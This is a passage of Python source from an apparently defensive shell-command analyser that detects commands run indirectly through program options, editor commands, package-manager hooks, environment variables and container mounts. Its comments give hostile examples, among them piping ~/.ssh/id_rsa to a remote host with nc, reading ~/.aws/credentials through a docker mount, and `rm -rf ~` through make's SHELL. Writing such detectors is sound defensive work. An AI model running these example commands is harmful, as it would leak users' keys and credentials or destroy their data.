            for pre in ("--checkpoint-action=exec=", "--to-command=", "--use-compress-program=", "--rsh-command=",
                        "--info-script=", "--new-volume-script="):
                if a.startswith(pre):
                    out.append(a[len(pre):])
            if a in ("-I", "--use-compress-program", "--to-command", "-F", "--info-script", "--new-volume-script",
                     "--rsh-command") and nxt:
                out.append(nxt)  # (-F/--info-script: a script run at each volume's end; the remote shell)
        elif prog == "rsync" and (a in ("-e", "--rsh") and nxt or a.startswith("--rsh=")):
            out.append(nxt if a in ("-e", "--rsh") else a.split("=", 1)[1])
        elif prog in ("ssh", "scp", "sftp") and (a == "-o" and nxt or a.startswith("-o") and len(a) > 2):
            opt = nxt if a == "-o" else a[2:]
            key, _, val = opt.partition("=") if "=" in opt else opt.partition(" ")
            if key.strip().lower() in ("proxycommand", "localcommand", "knownhostscommand") and val.strip():
                out.append(val.strip())
        elif prog in ("sort", "gsort") and (a == "--compress-program" and nxt or a.startswith("--compress-program=")):
            out.append(nxt if a == "--compress-program" else a.split("=", 1)[1])  # run to (de)compress temp files
        elif prog in ("zip",) and (a in ("-TT", "--unzip-command") and nxt or a.startswith("--unzip-command=")):
            out.append(nxt if "=" not in a else a.split("=", 1)[1])
        elif prog in _OPTION_COMMANDS and (a.split("=", 1)[0] in _OPTION_COMMANDS[prog]):
            # a program option whose value is a command line it runs (_OPTION_COMMANDS)
            val = a.split("=", 1)[1] if "=" in a and a.startswith("--") else \
                nxt if prog not in ("mysql", "mariadb") else ""  # (mysql's bare --pager: $PAGER)
            if val.strip() and not (prog == "wget" and val in ("on", "off")):
                out.append(val)
        elif prog in _VIMS:
            # -c CMD, --cmd CMD, +CMD, and -c at the end of a cluster (`ex -sc CMD`, `vim -Nc CMD`)
            cmd = nxt if a in ("-c", "--cmd") or re.fullmatch(r"-[A-Za-z]{1,4}c", a) else \
                a[1:] if a.startswith("+") else a[2:] if a.startswith("-c") and len(a) > 2 else ""
            if cmd:
                vim_cmds.append(cmd)
        elif prog in ("man",) and (a in ("-P", "--pager") and nxt or a.startswith(("--pager=", "-P")) and len(a) > 2):
            out.append(nxt if a in ("-P", "--pager") else a.split("=", 1)[1] if "=" in a else a[2:])
        elif prog == "apt-get" or prog in ("apt", "aptitude", "apt-cache"):
            opt = nxt if a == "-o" else a[2:] if a.startswith("-o") and len(a) > 2 else \
                a.split("=", 1)[1] if a.startswith("--option=") else ""
            m = _APT_HOOK_KEYS.match(opt)
            if m and m.group(1).strip():
                out.append(m.group(1).strip())  # `-o APT::Update::Pre-Invoke::=CMD`: apt runs CMD with sh -c
        elif prog in ("dialog", "whiptail") and a in ("--prgbox", "--progressbox") and nxt:
            # `dialog --prgbox [TEXT] CMD HEIGHT WIDTH`: the word before the two sizes is the command
            words = list(args[i + 1:i + 4])
            sizes = [k for k, w in enumerate(words) if w.lstrip("-").isdigit()]
            if a == "--prgbox" and sizes and sizes[0] >= 1:
                out.append(words[sizes[0] - 1])
        elif prog in ("rpm", "rpmbuild", "rpmspec") and (a in ("--eval", "-E", "--define", "-D") and nxt
                                                        or a.startswith(("--eval=", "--define="))):
            out += _rpm_macro_commands(nxt if "=" not in a or not a.startswith("--") else a.split("=", 1)[1])
        elif prog == "gem" and list(args[:1]) == ["open"] and a in ("-e", "--editor") and nxt:
            out.append(nxt)  # `gem open -e CMD GEM`: the "editor" it starts on the gem's folder
        elif prog in _SCRIPT_SHELL_PROGS and (a == "--script-shell" and nxt or a.startswith("--script-shell=")):
            out.append((nxt if a == "--script-shell" else a.split("=", 1)[1]) + " -c :")
        elif prog == "cargo" and (a == "--config" and nxt or a.startswith("--config=")):
            m = _CARGO_PROGRAM_KEY.match(nxt if a == "--config" else a.split("=", 1)[1])
            if m:
                words = m.group(1) or m.group(2) or " ".join(re.findall(r'"([^"]*)"', m.group(3) or ""))
                if words.strip():
                    out.append(words)
        elif prog in ("mvn", "mvnw", "./mvnw") and a.startswith("-Dexec.executable="):
            extra = next((x.split("=", 1)[1] for x in args if x.startswith("-Dexec.args=")), "")
            out.append(f"{a.split('=', 1)[1]} {extra}".strip())  # `mvn exec:exec`: the program and its args
        elif prog == "wget" and a in ("-e", "--execute") and nxt or prog == "wget" and a.startswith("--execute="):
            m = re.match(r"\s*use_?askpass\s*=\s*(.+)", nxt if "=" not in a else a.split("=", 1)[1], re.I | re.S)
            if m:
                out.append(m.group(1))  # a wgetrc command on the line: the askpass program
        elif prog in ("rake", "rdoc") and (a in ("-e", "--execute", "-p", "--execute-print", "-E",
                                                 "--execute-continue") and nxt):
            out.append("ruby -e " + _sh_quote(nxt))  # `rake -e CODE`: Ruby code run before the tasks
        elif prog in ("less", "more") and a.startswith("+") and a.lstrip("+").startswith("!"):
            out.append(a.lstrip("+")[1:])  # `less '+!CMD' f`: an initial command; `!` runs CMD in a shell
        elif prog == "just" and a in ("--command", "-c") and nxt:
            out.append(" ".join(_sh_quote(x) for x in args[i + 1:]))  # `just --command CMD ARGS…` runs CMD
    if vim_cmds:
        out += _vim_commands(vim_cmds, _vim_files(args))
    if prog == "git":
        out += _git_commands(args)
    if prog in ("make", "gmake", "bmake"):
        # `make --eval=$'x:\n\tCMD' x`: the text is read as makefile text — its recipe lines and
        # `$(shell CMD)` run
        for k, a in enumerate(args):
            text = a[7:] if a.startswith("--eval=") else args[k + 1] if a == "--eval" and k + 1 < len(args) else None
            if text:
                out += [ln.strip() for ln in text.split("\n") if ln.startswith("\t") and ln.strip()][:8]
                # `x: deps ; CMD`: a recipe on the rule's own line
                out += [m.group(1) for m in re.finditer(r"(?m)^[^\t#=:\n][^#=:\n]*::?[^=;\n]*;[ \t]*(\S[^\n]*)$", text)][:8]
                out += re.findall(r"\$[({]shell\s+([^)}]+)[)}]", text)[:8]
        # make runs each recipe as `$(SHELL) -c RECIPE`: `make SHELL='rm -rf ~'` runs that
        for a in args:
            if a.startswith(("SHELL=", "MAKESHELL=")) and a.split("=", 1)[1].strip():
                out.append(a.split("=", 1)[1] + " -c :")
    if prog == "watch":
        cmd = _watch_command(list(args))
        if cmd:
            out.append(cmd)
    return out[:8]


# programs whose option names a file of names they read and print back line by line
_NAME_LIST_READERS = {"file": frozenset({"-f", "--files-from"})}
# archivers and copiers that take the files they read and send from a list: program → (options whose
# value is that list's file, does it read the list on stdin) — `tar -T LIST`, `rsync --files-from=LIST`,
# `7z a x.7z @LIST`, `zip -@ x.zip < LIST`, `cpio -o < LIST`
_NAMES_FROM_LIST: "dict[str, tuple[frozenset[str], bool]]" = {
    **{t: (frozenset({"-T", "--files-from"}), False) for t in ("tar", "gtar", "bsdtar")},
    "rsync": (frozenset({"--files-from"}), False),
    **{z: (frozenset({"@"}), False) for z in ("7z", "7za", "7zz")},
    "zip": (frozenset(), True), "cpio": (frozenset(), True),
}


def _list_files(prog: str, args: "list[str]") -> "list[str]":
    """The list files `prog` reads names from: option values, and "-" for stdin (zip -@, cpio -o, `-T -`)."""
    opts, on_stdin = _NAMES_FROM_LIST[prog]
    out: list[str] = []
    for k, a in enumerate(args[:64]):
        if "@" in opts and a.startswith("@") and len(a) > 1:
            out.append(a[1:])
        elif a in opts and k + 1 < len(args):
            out.append(args[k + 1])
        elif a.startswith("--") and a.split("=", 1)[0] in opts and "=" in a:
            out.append(a.split("=", 1)[1])
        elif prog in ("tar", "gtar", "bsdtar") and a.startswith("-T") and len(a) > 2:
            out.append(a[2:])
    if on_stdin and (prog == "zip" and any(a == "-@" or (a.startswith("-") and not a.startswith("--") and "@" in a)
                                           for a in args)
                     or prog == "cpio" and any(a in ("-o", "--create") or re.fullmatch(r"-[a-zA-Z]*o[a-zA-Z]*", a)
                                               for a in args)):
        out.append("-")
    return [f for f in out if f][:4]
# program → options whose value is a command line it runs (attached with `=` for long options too)
_OPTION_COMMANDS: "dict[str, frozenset[str]]" = {
    "nano": frozenset({"-s", "--speller"}), "pico": frozenset({"-s", "--speller"}),  # the spell checker
    "rpm": frozenset({"--pipe"}),  # rpm -qa --pipe CMD: the output is piped into CMD (sh -c)
    "wget": frozenset({"--use-askpass"}),  # wget runs it to ask for the password
    "sbatch": frozenset({"--wrap"}),  # the job's script is `#!/bin/sh` + this line
    "openvpn": frozenset({"--up", "--down", "--route-up", "--route-pre-down", "--ipchange", "--client-connect",
                          "--client-disconnect", "--learn-address", "--auth-user-pass-verify", "--tls-verify",
                          "--tls-crypt-v2-verify"}),  # (with --script-security 2: run through the shell)
    "git": frozenset({"--to-cmd", "--cc-cmd", "--header-cmd", "--sendmail-cmd"}),  # send-email
    "tcpdump": frozenset({"-z"}),  # tcpdump -z CMD: run on each rotated capture file
    "go": frozenset({"-exec"}),  # `go run|test -exec CMD`: the built program is run by CMD
    "bazel": frozenset({"--run_under"}), "bazelisk": frozenset({"--run_under"}),  # the target runs under it
    "mysql": frozenset({"--pager"}), "mariadb": frozenset({"--pager"}),  # results piped into CMD
    # aria2c runs these with the download's gid and path
    "aria2c": frozenset({"--on-download-complete", "--on-download-start", "--on-download-error",
                         "--on-download-stop", "--on-download-pause", "--on-bt-download-complete"}),
}
# package managers' `--script-shell=X`: every script then runs as `X -c SCRIPT`
_SCRIPT_SHELL_PROGS = frozenset({"npm", "pnpm", "yarn", "npx"})
# cargo --config 'KEY=VALUE' keys naming a program cargo runs (the runner runs every built binary)
_CARGO_PROGRAM_KEY = lazyre.compile(r"""\s*(?:target\.[^=]+\.runner|build\.rustc(?:-workspace)?-wrapper|build\.rustc|"""
                                    r"""target\.[^=]+\.linker|host\.linker)\s*=\s*(?:"([^"]*)"|'([^']*)'|\[(.*)\])\s*$""", re.S)
# apt's option keys naming a command line apt (or dpkg under it) runs with `sh -c`
_APT_HOOK_KEYS = lazyre.compile(r"(?i)\s*(?:apt::update::(?:pre|post)-invoke(?:-success)?|dpkg::(?:pre|post)-invoke|"
                                r"dpkg::pre-install-pkgs|apt::periodic::\w+-invoke|aptlistbugs::\w+)(?:::[^=]*)?=(.*)",
                                re.S)
_RPM_SHELL = lazyre.compile(r"%\(([^()]*(?:\([^()]*\)[^()]*)*)\)")
_RPM_LUA = lazyre.compile(r"%\{lua:(.*)\}", re.S)


def _rpm_macro_commands(text: str) -> list[str]:
    """Commands an rpm macro expression runs when expanded: `%(CMD)` (shell), `%{lua:CODE}`."""
    out = [m.group(1) for m in _RPM_SHELL.finditer(text[:4096])]
    out += ["lua -e " + _sh_quote(m.group(1)) for m in _RPM_LUA.finditer(text[:4096])]
    return out[:4]


_VIMS = frozenset({"vim", "vi", "nvim", "view", "ex", "vimdiff", "gvim", "rvim", "evim"})
_VIM_FILTER = lazyre.compile(r"^(?:g!?/[^/]*/)?\s*!(.+)$")
# a range filtered through a command: the lines go to its stdin (`%!sort`, `1,$!curl -T - URL`)
_VIM_RANGE_FILTER = lazyre.compile(r"^(?:%|[.$\d]+(?:[+-]\d+)?(?:,[.$\d]+(?:[+-]\d+)?)?|'<,'>)\s*!(.+)$")
_VIM_READ_WRITE = lazyre.compile(r"^(?:r|re|rea|read|w|wr|wri|writ|write)!?\s*!(.+)$")
_VIM_TERMINAL = lazyre.compile(r"^(?:ter|term|termi|termin|termina|terminal)!?\s+(?:\+\+\S+\s+)*(.+)$")
_VIM_LANGS = ((lazyre.compile(r"^(?:py3|python3|pyx|pythonx|py|python)\s+(.+)$", re.S), "python3 -c"),
              (lazyre.compile(r"^lua\s+(.+)$", re.S), "lua -e"), (lazyre.compile(r"^perl?\s+(.+)$", re.S), "perl -e"),
              (lazyre.compile(r"^rub(?:y)?\s+(.+)$", re.S), "ruby -e"))
_VIM_SYSTEM = lazyre.compile(r"""\b(?:system|systemlist|jobstart|termopen)\s*\(\s*(?:\[\s*)?(?:"((?:[^"\\]|\\.)*)"|'([^']*)')""")
# the list form (`jobstart(['sh', '-c', CMD])`, lua's `vim.fn.jobstart({'sh', '-c', CMD})`): an argv
_VIM_SYSTEM_LIST = lazyre.compile(r"""\b(?:system|systemlist|jobstart|termopen)\s*\(\s*[\[{]([^\]}]{0,4096})[\]}]""")
# Ex commands run from lua (an nvim init.lua): `vim.cmd('…')`, `vim.cmd [[…]]`, `vim.api.nvim_command("…")`
_VIM_LUA_CMD = lazyre.compile(r"""\b(?:vim\.cmd|vim\.api\.nvim_command|vim\.api\.nvim_exec2?)\s*\(?\s*(?:"((?:[^"\\]|\\.)*)"|'([^']*)'|\[(=*)\[(.*?)\]\3\])""", re.S)
# an autocommand's command: `au[tocmd][!] [group] EVENTS PATTERN [++once] [++nested] CMD` (the group is
# optional, so both readings are tried: the wrong one leaves no command)
_VIM_AUTOCMD = lazyre.compile(r"^au(?:t|to|toc|tocm|tocmd)?!?\s+(\S+)\s+(\S+)\s+(.+)$", re.S)


def _unquote_lua(s: str) -> str:
    """A quoted string of vimscript or lua as its text (`"a\\"b"` → `a"b`, `'x'` → `x`)."""
    if s[:1] == '"':
        return re.sub(r"\\(.)", r"\1", s[1:-1])
    return s[1:-1]


def _vim_commands(cmds: "list[str]", files: "list[str]") -> list[str]:
    """Shell commands (and interpreter one-liners) the Ex commands given to vim/ex/nvim run, in order:
    `!CMD`, `%!CMD`, `r !CMD`, `terminal CMD`, `py3|lua|perl|ruby CODE`, `system('CMD')` anywhere;
    `w !CMD` pipes the buffer — the file opened, and what `r !…` read into it — into CMD
    (`vim -c 'w !nc h 9' ~/.ssh/id_rsa` is `cat ~/.ssh/id_rsa | nc h 9`). `silent`/`exe` prefixes
    and `|`-joined commands are read too (a bang, filter or language command takes the rest)."""
    out: list[str] = []
    buffer = " ".join(_word(f) for f in files[:8])
    buffer = f"cat {buffer}" if buffer else ""
    for cmd in cmds[:MAX_VIM_COMMANDS]:
        for m in _VIM_SYSTEM.finditer(cmd):
            out.append(m.group(1) if m.group(1) is not None else m.group(2))
        for m in _VIM_SYSTEM_LIST.finditer(cmd):
            argv = [_unquote_lua(x) for x in re.findall(r""""(?:[^"\\]|\\.)*"|'[^']*'""", m.group(1))]
            if argv:
                out.append(" ".join(_word(a) for a in argv))
        for m in _VIM_LUA_CMD.finditer(cmd):
            inner = next((g for g in (m.group(1), m.group(2), m.group(4)) if g is not None), "")
            out += _vim_commands(inner.split("\n")[:MAX_VIM_COMMANDS], files)
        rest = cmd
        for _ in range(16):
            c = rest.strip().lstrip(":").strip()
            c = re.sub(r"^(?:(?:sil(?:ent)?!?|norm(?:al)?!?|noa(?:utocmd)?|verb(?:ose)?|keepj(?:umps)?|"
                       r"lockm(?:arks)?|windo|bufdo|tabdo|argdo)\s+)+", "", c)
            m = re.match(r"^exe(?:c|cu|cut|cute)?\s+(.*)$", c, re.S)
            if m:  # `exe "!" . "rm -rf ~"`: the string it builds, when it is made of literals
                parts = re.findall(r'"((?:[^"\\]|\\.)*)"|\'([^\']*)\'', m.group(1))
                if parts:
                    out += _vim_commands(["".join(a or b for a, b in parts)], files)
                break
            if not c:
                break
            m = _VIM_AUTOCMD.match(c)
            if m:  # the command it runs when the event comes (VimEnter: at every start)
                tail = m.group(3).split(None, 1)
                out += _vim_commands([re.sub(r"^(?:\+\+(?:once|nested)\s+)+", "", m.group(3)),
                                      re.sub(r"^(?:\+\+(?:once|nested)\s+)+", "", tail[1]) if len(tail) > 1 else ""],
                                     files)
                break
            m = _VIM_READ_WRITE.match(c)
            if m:
                if c[0] == "r":
                    buffer = f"{{ {buffer}; {m.group(1).strip()}; }}" if buffer else m.group(1).strip()
                    out.append(m.group(1).strip())
                else:
                    out.append(f"{buffer} | {m.group(1).strip()}" if buffer else m.group(1).strip())
                break
            m = _VIM_RANGE_FILTER.match(c)
            if m:
                out.append(f"{buffer} | {m.group(1).strip()}" if buffer else m.group(1).strip())
                break
            m = _VIM_FILTER.match(c) or _VIM_TERMINAL.match(c)
            if m:
                out.append(m.group(1).strip())
                break
            lang = next(((pat.match(c), runner) for pat, runner in _VIM_LANGS if pat.match(c)), None)
            if lang is not None:
                out.append(f"{lang[1]} {_sh_quote(lang[0].group(1))}")
                break
            if "|" not in c:
                break
            rest = c.split("|", 1)[1]
    return [c for c in out if c.strip()][:8]


_VIM_VALUED = frozenset({"-c", "--cmd", "-S", "-u", "-U", "-i", "-T", "-t", "-q", "-w", "-W", "-s", "--startuptime",
                         "--listen", "--servername", "-r", "--remote", "--remote-silent", "--remote-send"})


def _vim_files(args: "list[str] | tuple[str, ...]") -> list[str]:
    """The files vim/ex opens (its buffer): the words that are not options or option values."""
    out: list[str] = []
    skip = False
    for a in args:
        if skip:
            skip = False
        elif a in _VIM_VALUED or re.fullmatch(r"-[A-Za-z]{1,4}c", a):
            skip = True
        elif not a.startswith(("-", "+")):
            out.append(a)
    return out


_CONTAINER_TOOLS = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc", "lxc", "multipass", "docker-compose",
                              "podman-compose"})
_DOCKER_VALUED = frozenset({
    "-a", "--attach", "--add-host", "--annotation", "--blkio-weight", "--cap-add", "--cap-drop", "--cgroup-parent",
    "--cgroupns", "--cidfile", "--cpu-period", "--cpu-quota", "--cpu-shares", "-c", "--cpus", "--cpuset-cpus",
    "--cpuset-mems", "--detach-keys", "--device", "--device-cgroup-rule", "--dns", "--dns-option", "--dns-search",
    "--domainname", "--entrypoint", "-e", "--env", "--env-file", "--expose", "--gpus", "--group-add",
    "--health-cmd", "--health-interval", "--health-retries", "--health-start-period", "--health-timeout",
    "-h", "--hostname", "--ip", "--ip6", "--ipc", "--isolation", "--kernel-memory", "-l", "--label",
    "--label-file", "--link", "--link-local-ip", "--log-driver", "--log-opt", "--mac-address", "-m", "--memory",
    "--memory-reservation", "--memory-swap", "--memory-swappiness", "--mount", "--name", "--network", "--net",
    "--network-alias", "--oom-score-adj", "--pid", "--pids-limit", "--platform", "-p", "--publish", "--pull",
    "--restart", "--runtime", "--security-opt", "--shm-size", "--stop-signal", "--stop-timeout",
    "--storage-opt", "--sysctl", "--tmpfs", "--ulimit", "-u", "--user", "--userns", "--uts", "-v", "--volume",
    "--volume-driver", "--volumes-from", "-w", "--workdir", "--env-host", "--secret", "--userns-remap",
    "--index", "--service-ports"})
_DOCKER_SUBS = {("run",), ("exec",), ("container", "run"), ("container", "exec"), ("compose", "run"),
                ("compose", "exec")}


# variables whose value a later program runs as a command line
_COMMAND_VARS = frozenset({
    "PROMPT_COMMAND", "PAGER", "GIT_PAGER", "MANPAGER", "SYSTEMD_PAGER", "BAT_PAGER", "DELTA_PAGER", "EDITOR", "VISUAL",
    "GIT_EDITOR", "GIT_SEQUENCE_EDITOR", "SVN_EDITOR", "SUDO_EDITOR", "KUBE_EDITOR", "FCEDIT", "GIT_SSH_COMMAND",
    "GIT_SSH", "GIT_PROXY_COMMAND", "SSH_ASKPASS", "SUDO_ASKPASS", "GIT_ASKPASS", "GIT_EXTERNAL_DIFF", "LESSOPEN",
    "LESSCLOSE", "BROWSER", "RSYNC_RSH", "CVS_RSH", "DIFFPROG", "MERGETOOL",
    # the shell a tool runs its scripts or commands with (`npm_config_script_shell=./x npm test` runs ./x -c
    # "jest"; autoconf's configure re-runs itself under CONFIG_SHELL), and more editors and remote shells
    "npm_config_script_shell", "NPM_CONFIG_SCRIPT_SHELL", "npm_config_shell", "NPM_CONFIG_SHELL", "CONFIG_SHELL",
    "SVN_SSH", "HGEDITOR", "P4EDITOR", "HOMEBREW_EDITOR", "TERMINAL",
    # the toolchain a build runs (make's implicit rules, ./configure, cmake, node-gyp, pip and cargo's cc
    # builds all run $CC …): `CC='sh -c "…"' make` runs that
    "CC", "CXX", "CPP", "LD", "AR", "AS", "NM", "RANLIB", "STRIP", "OBJCOPY", "FC", "F77", "HOSTCC",
    "CC_FOR_BUILD", "CXX_FOR_BUILD", "PKG_CONFIG", "CMAKE_C_COMPILER_LAUNCHER", "CMAKE_CXX_COMPILER_LAUNCHER",
})
_MAKE_VARS = frozenset({"MAKEFLAGS", "MFLAGS", "GNUMAKEFLAGS"})  # make's options, from the environment
# variables naming code every later shell or interpreter loads: what that run looks like
# variables naming libraries the dynamic loader maps into every later program (→ `ld.so --OPTION`)
_PRELOAD_VARS = {"LD_PRELOAD": "preload", "LD_AUDIT": "audit", "DYLD_INSERT_LIBRARIES": "preload"}
_STARTUP_VARS = {
    "BASH_ENV": "source {}", "ENV": "source {}", "PYTHONSTARTUP": "python3 {}", "NODE_OPTIONS": "node {} -e 0",
    "JAVA_TOOL_OPTIONS": "java {} -version", "_JAVA_OPTIONS": "java {} -version", "JDK_JAVA_OPTIONS": "java {} -version",
    "PERL5OPT": "perl {} -e 1", "RUBYOPT": "ruby {} -e 1",
}


def _glued_redirect(word: ts.Node) -> "ts.Node | None":
    """The redirect without a descriptor of its own that starts right where `word` ends (`0<&3`: bash
    reads `0` as its descriptor; tree-sitter-bash as an argument, the redirect after the command)."""
    nxt = word.next_sibling
    if nxt is None and word.parent is not None and word.parent.type in ("command", "file_redirect"):
        nxt = word.parent.next_sibling
    if nxt is None or nxt.type != "file_redirect" or nxt.start_byte != word.end_byte:
        return None
    return nxt if nxt.child_by_field_name("descriptor") is None else None


def _glued_word(r: ts.Node) -> "ts.Node | None":
    """The word right before redirect `r` that _glued_redirect pairs with it."""
    prev = r.prev_sibling
    if prev is not None and prev.type in ("command", "file_redirect") and prev.child_count:
        prev = prev.children[-1]
    if prev is None or prev.type not in ("number", "word", "concatenation") or \
            r.child_by_field_name("descriptor") is not None:
        return None
    return prev if prev.end_byte == r.start_byte else None


def _read_fd_option(args: "list[str]") -> str:
    """The descriptor of `read -u N` / `mapfile -u N` ("" without one)."""
    for k, a in enumerate(args[:16]):
        if a == "--":
            break
        if a.startswith("-") and "u" in a[1:]:
            rest = a[a.index("u", 1) + 1:]
            n = rest or (args[k + 1] if k + 1 < len(args) else "")
            return n if n.isdigit() else ""
    return ""


def _sh_quote(a: str) -> str:
    import shlex
    return shlex.quote(a)




def _passes_stdin(prog: str, args: "list[str]") -> bool:
    """Does the container/VM tool hand its stdin to the command it runs (`docker exec -i`, `-it`,
    `kubectl exec --stdin`; lxc and multipass exec always do)?"""
    if prog in ("lxc", "multipass"):
        return True
    head = args[:args.index("--")] if "--" in args else args
    return any(a in ("-i", "--interactive", "--stdin", "--interactive=true", "--stdin=true")
               or (a.startswith("-") and not a.startswith("--") and "i" in a[1:] and len(a) <= 4) for a in head)


def _container_command(prog: str, args: "list[str]") -> "list[str] | None":
    """argv a container/VM tool runs inside: `docker run [opts] IMAGE CMD…`, `kubectl exec POD -- CMD…`."""
    if prog in ("kubectl", "oc", "lxc", "multipass"):
        if args[:1] in (["exec"], ["run"], ["debug"], ["shell"]) and "--" in args:
            cmd = args[args.index("--") + 1:]
            if args[0] == "run" and "--command" not in args:
                head = args[:args.index("--")]
                image = next((a.split("=", 1)[1] if "=" in a else (head[k + 1] if k + 1 < len(head) else "")
                              for k, a in enumerate(head) if a.split("=", 1)[0] == "--image"), "")
                tool = _IMAGE_ENTRYPOINTS.get(_image_repo(image)) if image else None
                if tool is not None:
                    cmd = [tool] + cmd  # `kubectl run x --image amazon/aws-cli -- s3 rb …`: the arguments of aws
            return cmd or None
        return None
    rest = _after_global_options(args)
    if prog in ("docker-compose", "podman-compose"):
        rest = ["compose"] + rest
    sub: "tuple[str, ...] | None" = None
    for n in (2, 1):
        if tuple(rest[:n]) in _DOCKER_SUBS:
            sub = tuple(rest[:n])
            break
    if sub is None:
        return None
    i, entry = len(sub), None
    while i < len(rest):
        a = rest[i]
        if a == "--":
            i += 1
            break
        if not a.startswith("-") or a == "-":
            break
        name = a.split("=", 1)[0]
        if name == "--entrypoint":
            entry = a.split("=", 1)[1] if "=" in a else (rest[i + 1] if i + 1 < len(rest) else None)
        if name in _DOCKER_VALUED and "=" not in a:
            i += 2
        else:
            i += 1
    cmd = rest[i + 1:]  # after the image / container / service
    if entry:
        cmd = [entry] + cmd
    elif sub[-1] == "run" and i < len(rest):
        tool = _IMAGE_ENTRYPOINTS.get(_image_repo(rest[i]))
        if tool is not None:
            cmd = [tool] + cmd  # the image's entrypoint is the CLI: its words are that CLI's arguments
    return cmd or None


# official images whose entrypoint is a command-line tool, so `docker run amazon/aws-cli s3 rb s3://b`
# runs `aws s3 rb s3://b` (images without an entrypoint name the program themselves)
_IMAGE_ENTRYPOINTS = {
    "amazon/aws-cli": "aws", "public.ecr.aws/aws-cli/aws-cli": "aws", "hashicorp/terraform": "terraform",
    "ghcr.io/opentofu/opentofu": "tofu", "bitnami/kubectl": "kubectl", "alpine/helm": "helm",
    "rclone/rclone": "rclone", "minio/mc": "mc", "restic/restic": "restic", "digitalocean/doctl": "doctl",
    "flyio/flyctl": "flyctl", "gcr.io/go-containerregistry/crane": "crane",
    "quay.io/skopeo/stable": "skopeo", "ghcr.io/oras-project/oras": "oras", "peakcom/s5cmd": "s5cmd",
    "d3fk/s3cmd": "s3cmd", "hetznercloud/cli": "hcloud", "linode/cli": "linode-cli",
}


def _image_repo(image: str) -> str:
    """`docker.io/amazon/aws-cli:2.15@sha256:…` → `amazon/aws-cli` (tag, digest, Docker Hub's prefixes dropped)."""
    repo = image.split("@", 1)[0].lower()
    last = repo.rsplit("/", 1)
    if ":" in last[-1]:
        repo = repo[: len(repo) - len(last[-1])] + last[-1].split(":", 1)[0]
    for prefix in ("docker.io/", "index.docker.io/", "registry-1.docker.io/"):
        if repo.startswith(prefix):
            repo = repo[len(prefix):]
    return repo.removeprefix("library/")


_DOCKER_GLOBAL_FLAGS = frozenset({"-D", "--debug", "--tls", "--tlsverify", "--remote", "-r", "--syslog", "--version",
                                  "-v", "--help", "-h", "--noout", "--trace"})


def _after_global_options(args: "list[str]") -> "list[str]":
    """docker/podman's words after its own options (`docker --context prod run …`, `podman --root /x
    run …`): an option with no `=` takes the next word unless it is a known flag."""
    i = 0
    while i < len(args) and args[i].startswith("-") and args[i] != "--":
        a = args[i]
        i += 1 if "=" in a or a in _DOCKER_GLOBAL_FLAGS else 2
    return args[i:] if i <= len(args) else []


def _bind_mounts(args: "list[str]") -> "tuple[list[tuple[str, str]], str]":
    """(host path, container path) of each bind mount of `docker|podman run|create …`, and the
    working directory (`-w`). Named volumes (no `/`, `~` or `.` at the start) are not the host's files."""
    mounts: list[tuple[str, str]] = []
    workdir = ""
    for k, a in enumerate(args):
        nxt = args[k + 1] if k + 1 < len(args) else ""
        val = ""
        if a in ("-v", "--volume", "--mount", "-w", "--workdir"):
            val = nxt
        elif a.startswith(("--volume=", "--mount=", "--workdir=")):
            val = a.split("=", 1)[1]
        elif a.startswith(("-v", "-w")) and len(a) > 2 and not a.startswith("--"):
            val = a[2:].lstrip("=")  # -v/h:/c, -v=/h:/c
        else:
            continue
        if a.startswith(("-w", "--workdir")):
            workdir = val
        elif a.startswith("--mount"):
            kv = dict((k.strip().lower(), v) for k, v in (p.split("=", 1) for p in val.split(",") if "=" in p))
            src = kv.get("source") or kv.get("src") or ""
            dst = kv.get("target") or kv.get("destination") or kv.get("dst") or ""
            if kv.get("type", "volume") == "bind" and src and dst:
                mounts.append((src, dst))
        else:
            parts = val.split(":")
            if len(parts) >= 2 and parts[0].startswith(("/", "~", ".")) and parts[1].startswith("/"):
                mounts.append((parts[0], parts[1]))
    norm = [(src, posixpath.normpath(dst)) for src, dst in mounts if dst.strip("/.")]
    return [(src, dst) for src, dst in norm if dst != "/"][:32], workdir


_RUNTIMES = ("docker", "podman", "nerdctl", "docker-compose", "podman-compose")


def _host_view(prog: str, args: "list[str]", inner: "list[str]") -> str:
    """The container's command line with its bind-mounted paths spelled as the host's: `docker run -v
    ~:/h alpine cat /h/.aws/credentials` reads `~/.aws/credentials` (also inside `sh -c '…'`), and a
    working directory that is a mount is `cd` into first."""
    if prog not in _RUNTIMES or not any(a.startswith(("-v", "--volume", "--mount")) for a in args):
        return " ".join(_sh_quote(a) for a in inner)
    mounts, workdir = _bind_mounts(args[: len(args) - len(inner)])
    return host_view(mounts, workdir, inner)


@dataclass(frozen=True)
class ContainerLaunch:
    """A named container started or created with host folders mounted (`docker run -d --name c -v
    ~:/h img …`): a later `docker exec c …`, `docker start c`, `docker cp c:/h/x .` reach them."""

    name: str
    mounts: "tuple[tuple[str, str], ...]"
    workdir: str = ""
    command: "tuple[str, ...]" = ()  # what `docker start` runs again


def container_launch(prog: str, args: "Sequence[str]") -> "ContainerLaunch | None":
    """The named container `docker|podman run|create --name N -v …` makes, with its bind mounts."""
    if prog not in _RUNTIMES[:3]:
        return None
    rest = _after_global_options(list(args))
    if rest[:2] in (["container", "run"], ["container", "create"]):
        rest = rest[1:]
    if rest[:1] not in (["run"], ["create"]):
        return None
    name = next((rest[i + 1] for i, a in enumerate(rest[:-1]) if a == "--name"), "") or next(
        (a.split("=", 1)[1] for a in rest if a.startswith("--name=")), "")
    if not name:
        return None
    inner = _container_command(prog, ["run"] + rest[1:]) or []  # (create takes run's options)
    mounts, workdir = _bind_mounts(rest[: len(rest) - len(inner)] if inner else rest)
    if not mounts:
        return None
    return ContainerLaunch(name, tuple(mounts), workdir, tuple(inner))


def container_use(prog: str, args: "Sequence[str]") -> "tuple[str, str, list[str]] | None":
    """(verb, container, argv) for `docker exec [opts] C CMD…` (argv: CMD), `docker start [-a] C`
    (argv: empty — the container's own command), `docker cp C:PATH DEST` (argv: PATH, DEST)."""
    if prog not in _RUNTIMES[:3]:
        return None
    rest = _after_global_options(list(args))
    if rest[:1] == ["container"]:
        rest = rest[1:]
    if not rest:
        return None
    verb = rest[0]
    if verb == "exec":
        inner = _container_command(prog, ["exec"] + rest[1:]) or []
        before = rest[1: len(rest) - len(inner)] if inner else rest[1:]
        pos = [a for a in before if not a.startswith("-")]
        return ("exec", pos[-1], inner) if pos and inner else None
    if verb in ("start", "restart"):
        pos = [a for a in rest[1:] if not a.startswith("-")]
        return ("start", pos[0], []) if pos else None
    if verb == "cp":
        pos = [a for a in rest[1:] if not a.startswith("-")]
